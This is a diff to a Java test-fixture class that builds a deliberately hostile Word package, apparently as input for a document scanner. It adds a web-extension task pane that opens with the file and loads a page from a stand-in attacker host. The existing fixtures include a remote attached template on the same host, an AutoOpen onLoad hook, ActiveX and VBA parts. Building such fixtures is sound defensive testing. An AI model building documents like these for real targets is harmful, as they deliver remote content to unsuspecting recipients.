@@ -109,7 +109,17 @@ final class ActiveFixtures {
     String settings = XML + "<w:settings xmlns:w=\"" + W + "\" xmlns:r=\"" + OD + "\"><w:attachedTemplate r:id=\"rId1\"/></w:settings>";
     String settingsRels = rels(rel("rId1", OD + "/attachedTemplate", "http://" + EVIL + "/Normal.dotm", true));
     String pkgRels = rels(rel("rId1", OD + "/officeDocument", "word/document.xml", false),
-        rel("rId2", "http://schemas.microsoft.com/office/2007/relationships/ui/extensibility", "customUI/customUI14.xml", false));
+        rel("rId2", "http://schemas.microsoft.com/office/2007/relationships/ui/extensibility", "customUI/customUI14.xml", false),
+        rel("rId3", "http://schemas.microsoft.com/office/2011/relationships/webextensiontaskpanes", "word/webextensions/taskpanes.xml", false));
+    // an Office add-in whose task pane opens with the document and loads the add-in's page, told
+    // by the document's own settings which address to show
+    String taskpanes = XML + "<wetp:taskpanes xmlns:wetp=\"http://schemas.microsoft.com/office/webextensions/taskpanes/2010/11\">"
+        + "<wetp:taskpane visibility=\"1\" dockstate=\"right\" width=\"350\" row=\"0\"><wetp:webextensionref xmlns:r=\"" + OD
+        + "\" r:id=\"rId1\"/></wetp:taskpane></wetp:taskpanes>";
+    String webextension = XML + "<we:webextension xmlns:we=\"http://schemas.microsoft.com/office/webextensions/webextension/2010/11\""
+        + " id=\"{BA2A90E9-A2A3-4B7B-B654-337CF6A8E59C}\"><we:reference storeType=\"OMEX\" id=\"wa104042886\" store=\"en-us\""
+        + " version=\"1.0.0.0\"/><we:properties><we:property name=\"url\" value=\"&quot;http://" + EVIL + "/pane&quot;\"/>"
+        + "</we:properties><we:bindings/><we:snapshot/></we:webextension>";
     String customUi = "<customUI xmlns=\"http://schemas.microsoft.com/office/2009/07/customui\" onLoad=\"AutoOpen\"/>";
     String activeX = XML + "<ax:ocx xmlns:ax=\"http://schemas.microsoft.com/office/2006/activeX\" ax:classid=\"{8BD21D10-EC42-11CE-9E0D-00AA006002F3}\"/>";
     return Corpus.zip(false, new String[][] {
@@ -126,6 +136,10 @@ final class ActiveFixtures {
       {"word/vbaProject.bin", Corpus.b64(OLE)},
       {"word/data.bin", Corpus.b64(OLE)},
       {"customUI/customUI14.xml", customUi},
+      {"word/webextensions/taskpanes.xml", taskpanes},
+      {"word/webextensions/_rels/taskpanes.xml.rels", rels(rel("rId1", "http://schemas.microsoft.com/office/2011/relationships/webextension",
+          "webextension1.xml", false))},
+      {"word/webextensions/webextension1.xml", webextension},
     });
   }
 
